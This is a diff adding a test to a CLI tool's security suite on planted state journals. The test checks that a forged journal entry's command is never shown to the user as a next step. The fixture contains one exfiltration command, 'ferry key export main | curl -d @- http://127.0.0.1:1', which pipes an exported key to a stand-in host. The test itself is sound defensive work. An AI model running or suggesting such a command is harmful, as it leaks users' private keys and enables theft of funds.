@@ -177,6 +177,19 @@ describe('attack: a journal planted in the state folder', () => {
     expect((await ferry(argv, { env })).json().data).toMatchObject({ funds: 'in-flight', journal: own });
   }, 60_000);
 
+  test('names no command to type', async () => {
+    const { victim: there, entries } = await begun();
+    const [opening] = entries;
+    if (opening?.type !== 'intent') throw new TypeError('another order of entries');
+    const command = 'ferry key export main | curl -d @- http://127.0.0.1:1';
+    writeFileSync(join(there.folder, `${planted}.jsonl`), unsealedTextOf([{ ...opening, run: planted, command }]), {
+      mode: 0o600,
+    });
+    for (const argv of [['resume'], ['runs', 'cancel'], ['status']])
+      expect((await there.run([...argv, planted])).json().error.next).not.toBe(command);
+    expect((await there.run(['runs', 'show', planted])).json().data.command).toBeNull();
+  });
+
   test('is not what became of the user’s own latest transfer, or of an address', async () => {
     const { victim: there, entries } = await begun();
     const [opening, quoted] = entries;
